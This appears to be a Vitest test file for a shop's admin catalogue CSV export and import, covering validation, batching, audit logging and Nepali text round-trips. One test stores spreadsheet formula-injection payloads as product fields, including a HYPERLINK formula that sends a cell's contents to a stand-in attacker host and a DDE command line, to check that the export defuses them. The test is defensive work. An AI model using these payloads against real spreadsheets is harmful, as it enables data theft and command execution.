import {
  CATALOGUE_CHANGED,
  type ImportApplied,
  type ImportPreview,
  importHasProblems,
  NOT_UTF8,
} from '@pasal/contract/admin-catalogue-csv';
import { SELLING_ABOVE_MARKED } from '@pasal/contract/admin-products';
import { parse } from 'csv-parse/sync';
import { asc, eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { ADMIN_ROOT } from '../../../app';
import { auditLog } from '../../../db/schema/audit';
import { products, stockMovements } from '../../../db/schema/catalogue';
import { messageOutbox } from '../../../db/schema/platform';
import { buildTestApp, type TestApp } from '../../../test/build-test-app';
import { createCategory, createProduct, createUser } from '../../../test/factories';
import { call, newShopper, type Shopper } from '../../../test/shopper';
import { newStaff, type StaffMember } from '../../../test/staff';
import { issueTokens } from '../../auth/session-service';
import { IMPORT_REASON } from './import-writes';

let t: TestApp;
let asha: StaffMember;
let shopper: Shopper;
let rice: typeof products.$inferSelect;
let oil: typeof products.$inferSelect;

const HEADER =
  'slug,title,nepali_title,category,subcategory,brand,unit,marked_price,selling_price,stock,low_stock_threshold,size_group';

beforeAll(async () => {
  t = await buildTestApp();
  asha = await newStaff(t.app, t.db);
  shopper = await newShopper(t.app, t.db);
  const staples = await createCategory(t.db, { title: 'Staples', slug: 'staples' });
  const sub = await createCategory(t.db, { title: 'Rice', slug: 'rice', parentId: staples.id });
  const oilCategory = await createCategory(t.db, { title: 'Oil', slug: 'oil' });
  rice = await createProduct(t.db, {
    slug: 'jeera-masino-5kg',
    title: 'Jeera Masino Rice, 5 kg',
    nepaliTitle: 'जीरा मसिनो चामल ५ केजी',
    categoryId: sub.id,
    brand: 'Gorkha "Best"',
    unit: '5 kg',
    markedPrice: 105_000,
    sellingPrice: 99_950,
    stock: 12,
    lowStockThreshold: 5,
  });
  oil = await createProduct(t.db, {
    slug: 'mustard-oil-1l',
    title: 'Mustard Oil 1 L',
    nepaliTitle: 'तोरीको तेल',
    categoryId: oilCategory.id,
    markedPrice: 30_000,
    sellingPrice: 30_000,
    stock: 0,
  });
});
afterAll(async () => {
  await t.close();
});

function send(method: 'GET' | 'POST', path: string, body?: string | Buffer, as: { token: string } = asha) {
  return t.app.inject({
    method,
    url: `${ADMIN_ROOT}${path}`,
    headers: {
      authorization: `Bearer ${as.token}`,
      ...(body === undefined ? {} : { 'content-type': 'text/csv' }),
    },
    ...(body === undefined ? {} : { payload: body }),
  });
}

async function preview(body: string | Buffer): Promise<ImportPreview> {
  const answer = await send('POST', '/products/import/preview/', body);
  expect(answer.statusCode, answer.body).toBe(200);
  return answer.json<ImportPreview>();
}

const apply = (body: string | Buffer, version: string) =>
  send('POST', `/products/import/?catalogue_version=${version}`, body);

async function exported(): Promise<string> {
  const answer = await send('GET', '/products/export/');
  expect(answer.statusCode, answer.body).toBe(200);
  expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(answer.headers['content-disposition']).toMatch(
    /^attachment; filename="pasal-catalogue-\d{4}-\d{2}-\d{2}\.csv"$/,
  );
  return answer.rawPayload.toString('utf8');
}

const stockOf = async (id: number) =>
  (await t.db.select({ stock: products.stock }).from(products).where(eq(products.id, id)))[0].stock;

test('the export is UTF-8 with a byte order mark, prices in rupees with 2 decimals, quoted where needed', async () => {
  const csv = await exported();
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const lines = csv.slice(1).split('\r\n');
  expect(lines[0]).toBe(HEADER);
  expect(lines).toContain(
    'jeera-masino-5kg,"Jeera Masino Rice, 5 kg",जीरा मसिनो चामल ५ केजी,staples,rice,"Gorkha ""Best""",5 kg,1050.00,999.50,12,5,',
  );
  expect(lines).toContain('mustard-oil-1l,Mustard Oil 1 L,तोरीको तेल,oil,,,,300.00,300.00,0,10,');
});

test('only staff export and import', async () => {
  expect((await t.app.inject({ method: 'GET', url: `${ADMIN_ROOT}/products/export/` })).statusCode).toBe(401);
  expect((await send('GET', '/products/export/', undefined, shopper)).statusCode).toBe(403);
  expect((await send('POST', '/products/import/preview/', `${HEADER}\r\n`, shopper)).statusCode).toBe(403);
});

test('the preview lists every problem with its line and changes nothing', async () => {
  const csv = [
    HEADER,
    'new-dal-1kg,Masoor Dal 1 kg,मसुरो दाल,staples,,,1 kg,180,170,20,,',
    'bad-category,Thing,,no-such-place,,,,10,10,1,,',
    'too-dear,Ghee,,oil,,,,100,120,1,,',
    'negative,Salt,,oil,,,,20,20,-4,,',
    'new-dal-1kg,Masoor Dal again,,staples,,,,180,170,1,,',
    'jeera-masino-5kg,Jeera Masino Rice, 5 kg,,staples,rice,,,1050,999.5,12,5,',
    'wrong-sub,Thing,,oil,rice,,,10,10,1,,',
  ].join('\r\n');
  const answer = await preview(csv);
  expect(answer.problems).toEqual([
    { line: 3, column: 'category', message: 'Unknown category “no-such-place”' },
    { line: 4, column: 'selling_price', message: SELLING_ABOVE_MARKED },
    { line: 5, column: 'stock', message: 'Stock cannot be negative' },
    { line: 6, column: 'slug', message: 'The slug “new-dal-1kg” is also on line 2' },
    { line: 7, column: null, message: 'The line has 13 fields; the header has 12' },
    { line: 8, column: 'subcategory', message: 'Unknown subcategory “rice” in the category “oil”' },
  ]);
  expect(answer.problem_count).toBe(6);
  expect(answer.created).toBe(1);
  expect((await t.db.select().from(products).where(eq(products.slug, 'new-dal-1kg'))).length).toBe(0);
});

test('the preview shows each field before and after; unchanged rows are counted', async () => {
  const csv = (await exported()).replace(
    'mustard-oil-1l,Mustard Oil 1 L,तोरीको तेल,oil,,,,300.00,300.00,0,10,',
    'mustard-oil-1l,Mustard Oil 1 L,तोरीको तेल,oil,,Dhara,,300.00,280,24,10,',
  );
  const answer = await preview(csv);
  expect(answer).toMatchObject({ created: 0, updated: 1, unchanged: 1, problem_count: 0 });
  expect(answer.changes).toEqual([
    {
      line: 3,
      slug: 'mustard-oil-1l',
      action: 'update',
      fields: [
        { field: 'brand', before: '', after: 'Dhara' },
        { field: 'selling_price', before: '300.00', after: '280.00' },
        { field: 'stock', before: '0', after: '24' },
      ],
    },
  ]);
});

test('a file that is not UTF-8 is refused with a clear message', async () => {
  const latin1 = Buffer.from(`${HEADER}\r\nchiya,Chiya café,,oil,,,,10,10,1,,\r\n`, 'latin1');
  const answer = await send('POST', '/products/import/preview/', latin1);
  expect(answer.statusCode).toBe(400);
  expect(answer.json().message).toBe(NOT_UTF8);
});

test('a bad row in the middle: the apply writes nothing, and says why', async () => {
  const rows = [HEADER];
  for (let i = 1; i <= 40; i += 1) rows.push(`bulk-${i},Bulk ${i},,oil,,,,10,9,${i},,`);
  rows[20] = 'bulk-20,Bulk 20,,oil,,,,10,11,1,,';
  const csv = rows.join('\r\n');
  const { catalogue_version } = await preview(csv);
  const answer = await apply(csv, catalogue_version);
  expect(answer.statusCode).toBe(400);
  expect(answer.json()).toMatchObject({
    message: importHasProblems(1),
    problem_count: 1,
    problems: [{ line: 21, column: 'selling_price', message: SELLING_ABOVE_MARKED }],
  });
  expect(await t.db.select().from(products).where(eq(products.slug, 'bulk-1'))).toEqual([]);
});

test('apply: creates and updates in one go, stock through movements, one audit entry per product, restock alerts', async () => {
  const customer = await createUser(t.db, { emailVerifiedAt: new Date() });
  const { access } = await issueTokens(t.db, t.app.config.jwtSecret, customer);
  const asked = await call(t.app, 'POST', '/create/back-in-stock/', {
    as: { id: customer.id, token: access },
    payload: { product: oil.id, channel: 'email' },
  });
  expect(asked.statusCode, asked.body).toBe(201);

  const csv = (await exported())
    .replace(
      'mustard-oil-1l,Mustard Oil 1 L,तोरीको तेल,oil,,,,300.00,300.00,0,10,',
      'mustard-oil-1l,Mustard Oil 1 L,तोरीको तेल,oil,,Dhara,,300.00,280,24,10,',
    )
    .concat('chiura-1kg,Beaten Rice 1 kg,चिउरा १ केजी,staples,rice,,1 kg,150,140,7,3,\r\n');
  const { catalogue_version, created, updated } = await preview(csv);
  expect({ created, updated }).toEqual({ created: 1, updated: 1 });
  const answer = await apply(csv, catalogue_version);
  expect(answer.statusCode, answer.body).toBe(200);
  expect(answer.json<ImportApplied>()).toEqual({ created: 1, updated: 1, unchanged: 1, stock_movements: 2 });

  const [chiura] = await t.db.select().from(products).where(eq(products.slug, 'chiura-1kg'));
  expect(chiura).toMatchObject({
    nepaliTitle: 'चिउरा १ केजी',
    sellingPrice: 14_000,
    stock: 7,
    lowStockThreshold: 3,
  });
  const [oilNow] = await t.db.select().from(products).where(eq(products.id, oil.id));
  expect(oilNow).toMatchObject({ brand: 'Dhara', sellingPrice: 28_000, stock: 24, version: oil.version + 1 });

  const movements = await t.db
    .select()
    .from(stockMovements)
    .where(inArray(stockMovements.productId, [oil.id, chiura.id]))
    .orderBy(asc(stockMovements.productId));
  expect(movements.map((m) => [m.productId, m.kind, m.delta, m.stockAfter, m.reason, m.staffId])).toEqual([
    [oil.id, 'adjustment', 24, 24, IMPORT_REASON, asha.id],
    [chiura.id, 'initial', 7, 7, IMPORT_REASON, asha.id],
  ]);

  const audit = await t.db.select().from(auditLog).where(eq(auditLog.note, IMPORT_REASON));
  expect(audit).toHaveLength(2);
  expect(audit.find((entry) => entry.entityId === oil.id)).toMatchObject({
    action: 'update',
    staffId: asha.id,
    before: { brand: '', selling_price: 300, stock: 0 },
    after: { brand: 'Dhara', selling_price: 280, stock: 24 },
  });
  expect(audit.find((entry) => entry.entityId === chiura.id)).toMatchObject({
    action: 'create',
    before: null,
  });

  // The customer who asked to be told hears the oil is back.
  const told = await t.db.select().from(messageOutbox).where(eq(messageOutbox.recipient, customer.email!));
  expect(told).toHaveLength(1);
});

test('an apply against a catalogue changed since the preview is refused', async () => {
  const csv = `${HEADER}\r\njeera-masino-5kg,Jeera Masino Rice 5 kg,जीरा मसिनो चामल ५ केजी,staples,rice,,5 kg,1050,999.50,12,5,\r\n`;
  const { catalogue_version } = await preview(csv);
  // A sale (or another staff member) changes the rice meanwhile.
  await t.db.update(products).set({ stock: 11 }).where(eq(products.id, rice.id));
  const answer = await apply(csv, catalogue_version);
  expect(answer.statusCode).toBe(409);
  expect(answer.json().message).toBe(CATALOGUE_CHANGED);
  expect(await stockOf(rice.id)).toBe(11);
  // A fresh preview applies.
  const again = await preview(csv);
  expect((await apply(csv, again.catalogue_version)).statusCode).toBe(200);
  expect(await stockOf(rice.id)).toBe(12);
});

test('Nepali text survives export → spreadsheet → import: with or without the mark, CRLF or LF, quoted', async () => {
  const csv = await exported();
  // A spreadsheet saving "CSV UTF-8" keeps the mark and CRLF; others drop it, use LF and quote every field.
  const resaved = [
    csv,
    csv.slice(1).replaceAll('\r\n', '\n'),
    parse(csv.slice(1), { skip_empty_lines: true })
      .map((record: string[]) => record.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','))
      .join('\r\n'),
  ];
  for (const file of resaved) {
    const answer = await preview(Buffer.from(file, 'utf8'));
    expect(answer.problems, file.slice(0, 200)).toEqual([]);
    expect(answer.changes).toEqual([]);
    expect(answer.unchanged).toBe(answer.rows);
  }
});

/** A product's search columns as stored, and as the row trigger derives them again now. */
async function searchColumnsAndTriggers(ids: number[]) {
  const columns = {
    id: products.id,
    searchText: products.searchText,
    searchTitle: products.searchTitle,
    searchLoose: products.searchLoose,
    searchWords: products.searchWords,
    searchLooseWords: products.searchLooseWords,
    searchTitleWords: products.searchTitleWords,
  };
  const stored = await t.db
    .select(columns)
    .from(products)
    .where(inArray(products.id, ids))
    .orderBy(asc(products.id));
  // Naming a searched column makes the trigger derive every search column again, row by row.
  await t.db.update(products).set({ searchText: '' }).where(inArray(products.id, ids));
  const derived = await t.db
    .select(columns)
    .from(products)
    .where(inArray(products.id, ids))
    .orderBy(asc(products.id));
  return { stored, derived };
}

test('a file of several batches: all or nothing across them, search columns as the trigger derives them', async () => {
  const subcategory = await createCategory(t.db, { title: 'Noodles', slug: 'noodles' });
  await createCategory(t.db, {
    title: 'Instant',
    nepaliTitle: 'चाउचाउ',
    slug: 'instant',
    parentId: subcategory.id,
  });
  const rows = (title: (i: number) => string) => {
    const lines = [HEADER];
    for (let i = 1; i <= 2_500; i += 1)
      lines.push(`batch-${i},${title(i)},चाउचाउ नम्बर ${i},noodles,instant,Wai Wai,70 g,25,20,${i % 7},,`);
    return lines;
  };
  const lines = rows((i) => `Noodles ${i}`);
  // Line 2,201 is in the third batch of 1,000: the first two must not stay written.
  lines[2_200] = lines[2_200].replace(',25,20,', ',25,30,');
  const bad = lines.join('\r\n');
  const refused = await apply(bad, (await preview(bad)).catalogue_version);
  expect(refused.statusCode).toBe(400);
  expect(refused.json().problems).toEqual([
    { line: 2_201, column: 'selling_price', message: SELLING_ABOVE_MARKED },
  ]);
  expect(await t.db.select().from(products).where(eq(products.slug, 'batch-1'))).toEqual([]);

  const good = rows((i) => `Noodles ${i}`).join('\r\n');
  const created = await apply(good, (await preview(good)).catalogue_version);
  expect(created.statusCode, created.body).toBe(200);
  expect(created.json<ImportApplied>()).toMatchObject({ created: 2_500, updated: 0 });
  const written = await t.db
    .select({ id: products.id, slug: products.slug, stock: products.stock })
    .from(products)
    .where(inArray(products.slug, ['batch-1', 'batch-1000', 'batch-1001', 'batch-2500']))
    .orderBy(asc(products.id));
  expect(written.map((p) => [p.slug, p.stock])).toEqual([
    ['batch-1', 1],
    ['batch-1000', 1000 % 7],
    ['batch-1001', 1001 % 7],
    ['batch-2500', 2500 % 7],
  ]);
  const ids = written.map((p) => p.id);
  const audit = await t.db.select().from(auditLog).where(inArray(auditLog.entityId, ids));
  expect(audit.map((entry) => [entry.entity, entry.action, entry.note])).toEqual(
    ids.map(() => ['product', 'create', IMPORT_REASON]),
  );
  const fresh = await searchColumnsAndTriggers(ids);
  expect(fresh.stored).toEqual(fresh.derived);
  expect(fresh.stored[0].searchWords).toEqual(
    expect.arrayContaining(['noodles', 'चाउचाउ', 'wai', 'instant']),
  );

  // Every title and price changed, across the same batches.
  const renamed = rows((i) => `Ramen ${i}`)
    .map((line) => line.replace(',25,20,', ',26,21,'))
    .join('\r\n');
  const updated = await apply(renamed, (await preview(renamed)).catalogue_version);
  expect(updated.statusCode, updated.body).toBe(200);
  expect(updated.json<ImportApplied>()).toMatchObject({ created: 0, updated: 2_500 });
  const changed = await searchColumnsAndTriggers(ids);
  expect(changed.stored).toEqual(changed.derived);
  expect(changed.stored[3].searchTitleWords).toEqual(expect.arrayContaining(['ramen', '2500']));
  expect(changed.stored[3].searchTitleWords).not.toContain('noodles');
});

test('text a spreadsheet would run as a formula is exported defused, and imports back as it was', async () => {
  const staples = await createCategory(t.db, { title: 'Formulas', slug: 'formulas' });
  const product = await createProduct(t.db, {
    slug: 'formula-like',
    title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    brand: '+cmd|/c calc!A0',
    unit: '-1 kg',
    nepaliTitle: '@SUM(1+1)',
    categoryId: staples.id,
  });
  // A text that itself starts with ' before such a character comes back as it was too.
  const quoted = await createProduct(t.db, {
    slug: 'quote-formula-like',
    title: "'=not a formula",
    categoryId: staples.id,
  });
  const csv = await exported();
  const records: string[][] = parse(csv.slice(1), { skip_empty_lines: true });
  const header = records[0];
  const row = records.find((record) => record[0] === 'formula-like')!;
  const cell = (name: string) => row[header.indexOf(name)];
  expect(cell('title')).toBe(`'${product.title}`);
  expect(cell('brand')).toBe(`'${product.brand}`);
  expect(cell('unit')).toBe(`'${product.unit}`);
  expect(cell('nepali_title')).toBe(`'${product.nepaliTitle}`);
  expect(records.find((record) => record[0] === 'quote-formula-like')![header.indexOf('title')]).toBe(
    `'${quoted.title}`,
  );
  for (const record of records.slice(1)) for (const value of record) expect(value).not.toMatch(/^[=+\-@]/);
  // Read back, the file changes nothing: the ' is the export's, not the product's.
  const answer = await preview(Buffer.from(csv, 'utf8'));
  expect(answer.problems).toEqual([]);
  expect(answer.changes).toEqual([]);
});

test('a NUL character in a cell is the row’s problem in the preview and the apply, which writes nothing', async () => {
  const file = `${HEADER}\r\nnul-title,Bad\u0000Title,,staples,,,,100.00,90.00,5,,\r\n`;
  const answer = await preview(file);
  expect(answer.problems).toEqual([
    { line: 2, column: 'title', message: 'Must not contain a NUL character' },
  ]);
  const applied = await apply(file, answer.catalogue_version);
  expect(applied.statusCode).toBe(400);
  expect(applied.json().problems).toEqual(answer.problems);
  expect(await t.db.select().from(products).where(eq(products.slug, 'nul-title'))).toEqual([]);
});
